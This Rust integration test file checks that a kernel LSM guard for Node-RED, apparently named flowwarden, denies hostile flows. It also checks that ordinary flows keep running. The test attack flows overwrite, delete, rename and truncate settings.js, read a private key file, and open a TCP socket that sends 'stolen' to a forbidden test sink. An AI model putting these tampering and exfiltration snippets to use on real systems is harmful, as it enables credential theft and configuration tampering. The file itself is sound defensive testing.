//! A real Node-RED on a kernel whose LSM programs deny: what a flow may not do does not happen, and Node-RED lives on.
//!
//! For a machine that was booted for it: `cargo xtask vm`. One Node-RED and one guard serve all attacks of a test, since an
//! emulated processor takes a minute to start the one and half a minute to start the other.

use std::{net::SocketAddr, time::Duration};

use anyhow::{Context as _, Result, ensure};
use flowwarden_tests::{
    flows::{FileAction, Flow, js},
    guard::Guard,
    learning::learn,
    needs,
    netns::Network,
    node_red::{NodeRed, Outcome},
    policy::Policy,
    record::Record,
    scene::Scene,
    sink::Sink,
    snapshot::{Snapshot, State},
    wait,
};

/// How long a record may take on an emulated processor.
const RECORD: Duration = Duration::from_mins(1);
/// Everything that changes a file or its name.
const CHANGES: [&str; 5] = ["write", "delete", "rename", "link", "attr"];
const SECRET: &str = "not for flows";

/// An attack by a flow, and the rule that has to meet it.
struct Attack {
    rule: &'static str,
    flow: Flow,
}

/// A flow that connects to an address and tells the error's name.
fn connect(to: SocketAddr) -> Flow {
    let code = format!(
        "const socket = net.connect({}, '{}', () => socket.end('stolen'));
         socket.resume();
         socket.on('error', error => node.error(error.code, msg));
         socket.on('close', failed => {{ if (!failed) node.send(msg); }}); return;",
        to.port(),
        to.ip()
    );
    Flow::function(&code, &["net"])
}

fn attacks(node_red: &NodeRed, forbidden: SocketAddr) -> Vec<Attack> {
    let (settings, key) = (node_red.settings(), node_red.home().user_dir().join("key.pem"));
    let write = |action| Flow::file(&settings, action, "TAMPERED");
    let code = |code: &str| Flow::function(&format!("const target = {}; {code} return msg;", js(&settings)), &["fs"]);
    let on = |rule, flow| Attack { rule, flow };
    vec![
        on("settings-js", write(FileAction::Overwrite)),
        on("settings-js", write(FileAction::Append)),
        on("settings-js", write(FileAction::Delete)),
        on(
            "settings-js",
            code("fs.writeFileSync(target + '.new', 'TAMPERED'); fs.renameSync(target + '.new', target);"),
        ),
        on("settings-js", code("fs.truncateSync('/proc/self/root' + target, 3);")),
        on("keys", Flow::file_in(&key)),
        on("egress", connect(forbidden)),
    ]
}

fn policy(node_red: &NodeRed) -> Policy {
    Policy::enforce(node_red).deny("settings.js", &CHANGES, "settings-js").deny("key.pem", &["read"], "keys").egress(
        &[Network::FORBIDDEN_NET],
        "deny",
        "egress",
    )
}

/// What an ordinary day asks for after its start: two deploys, and a file of its own.
fn ordinary_day(node_red: &mut NodeRed) -> Result<()> {
    let count = Flow::function("msg.payload = (flow.get('n') || 0) + 1; flow.set('n', msg.payload); return msg;", &[]);
    let outcome = node_red.play(&count)?;
    ensure!(outcome == Outcome::Answered("1".to_owned()), "a harmless flow fails: {outcome:?}");
    let log = node_red.home().directory("data")?.join("log.txt");
    let outcome = node_red.play(&Flow::file(&log, FileAction::Append, "measured"))?;
    ensure!(matches!(outcome, Outcome::Answered(_)), "a harmless file cannot be written: {outcome:?}");
    Ok(())
}

fn no_alerts(guard: &Guard) -> Result<()> {
    let records = guard.journal()?;
    let alarms: Vec<_> = records.iter().filter(|record| record.is_alert()).collect();
    ensure!(alarms.is_empty(), "false alarms: {alarms:#?}");
    println!("node-red: no alarm on an ordinary day");
    Ok(())
}

fn denied<'a>(records: &'a [Record], seen: usize, rule: &str) -> Option<&'a Record> {
    records.iter().skip(seen).find(|record| record.rule() == rule && record.is_alert())
}

/// The flow gets an error, and the journal names the rule.
fn is_denied(scene: &mut Scene, guard: &Guard, settings: &Snapshot, attack: &Attack) -> Result<()> {
    let Attack { rule, flow } = attack;
    let seen = guard.journal()?.len();
    let outcome = scene.node_red.play(flow).with_context(|| rule.to_string())?;
    ensure!(matches!(outcome, Outcome::Failed(_)), "{rule}: the flow gets no error: {outcome:?}");
    ensure!(outcome.text().contains("EPERM"), "{rule}: not the error that was asked for: {outcome:?}");
    let alert = wait::until("a record", RECORD, || Ok(denied(&guard.journal()?, seen, rule).cloned()))
        .with_context(|| format!("{rule}: {outcome:?}"))?;
    ensure!(alert.verdict() == "deny", "not denied: {alert:#?}");
    ensure!(settings.state()? == State::Intact, "{rule}: settings.js is {:?}", settings.state()?);
    println!("node-red: {rule} denied: {}", outcome.text());
    Ok(())
}

#[test]
fn what_a_flow_may_not_do_does_not_happen() -> Result<()> {
    let mut scene = Scene::new()?;
    println!("node-red: started");
    scene.node_red.home().file(".node-red/key.pem", SECRET)?;
    let sink = Sink::tcp(&scene.network, Network::FORBIDDEN)?;
    let mut settings = Snapshot::take(&scene.node_red.settings())?;
    // Without a guard each of them goes through.
    for attack in attacks(&scene.node_red, sink.address()) {
        let outcome = scene.without_guard(&attack.flow).with_context(|| format!("{} without a guard", attack.rule))?;
        match attack.rule {
            "settings-js" => ensure!(settings.state()? != State::Intact, "no harm without a guard: {outcome:?}"),
            "keys" => ensure!(outcome.text().contains(SECRET), "the key cannot be read without a guard: {outcome:?}"),
            _ => ensure!(sink.count() > 0, "nothing arrives without a guard: {outcome:?}"),
        }
        settings.restore()?;
    }
    println!("node-red: every attack does harm without a guard");

    let guard = Guard::start(Some(&policy(&scene.node_red)), &scene.cgroup, &[])?;
    scene.node_red.stop()?;
    scene.node_red.start()?;
    ordinary_day(&mut scene.node_red)?;
    no_alerts(&guard)?;

    let pid = scene.node_red.pid();
    let sink = Sink::tcp(&scene.network, Network::FORBIDDEN)?;
    for attack in attacks(&scene.node_red, sink.address()) {
        is_denied(&mut scene, &guard, &settings, &attack)?;
    }
    sink.settle(&scene.network)?;
    ensure!(sink.count() == 0, "{} bytes have left", sink.bytes().len());
    ensure!(scene.node_red.pid() == pid && scene.node_red.alive()?, "a denial is no reason to die");
    guard.stop().map(drop)
}

/// Operations that the learnt day did not have, and the rule of the learnt policy that has to match.
fn news(node_red: &NodeRed, forbidden: SocketAddr) -> Result<Vec<Attack>> {
    let home = node_red.home();
    let on = |rule, flow| Attack { rule, flow };
    let code = |code: &str| Flow::function(code, &["fs", "child_process"]);
    let make = format!("fs.mkdirSync({}); return msg;", js(&home.path().join("new")));
    let program = js(&needs::program("ip")?);
    let run = format!("msg.payload = String(child_process.execFileSync({program}, ['-Version'])); return msg;");
    Ok(vec![
        on("settings-js", Flow::file(&node_red.settings(), FileAction::Append, "TAMPERED")),
        on("private-keys", Flow::file_in(&home.user_dir().join("key.pem"))),
        on("default-files", Flow::file(&home.path().join("new.txt"), FileAction::Append, "TAMPERED")),
        on("default-files", code(&make)),
        // A program is opened before it is executed.
        on("default-files", code(&run)),
        on("default-egress", connect(forbidden)),
    ])
}

#[test]
fn a_day_like_the_one_that_was_learnt_from_is_quiet_and_what_is_new_does_not_happen() -> Result<()> {
    let mut scene = Scene::new()?;
    scene.node_red.home().file(".node-red/key.pem", SECRET)?;
    let settings = Snapshot::take(&scene.node_red.settings())?;
    let (_, text) = learn(&mut scene, ordinary_day)?;
    println!("node-red: learnt");
    let learnt = Policy::only(&text, &scene.node_red.home().user_dir())?;
    let guard = Guard::start(Some(&learnt), &scene.cgroup, &["--enforce"])?;
    scene.node_red.start()?;
    ordinary_day(&mut scene.node_red)?;
    no_alerts(&guard).with_context(|| text.clone())?;

    let pid = scene.node_red.pid();
    let sink = Sink::tcp(&scene.network, Network::FORBIDDEN)?;
    for attack in news(&scene.node_red, sink.address())? {
        is_denied(&mut scene, &guard, &settings, &attack).with_context(|| text.clone())?;
    }
    sink.settle(&scene.network)?;
    ensure!(sink.count() == 0, "{} bytes have left", sink.bytes().len());
    ensure!(scene.node_red.pid() == pid && scene.node_red.alive()?, "a denial is no reason to die");
    guard.stop().map(drop)
}
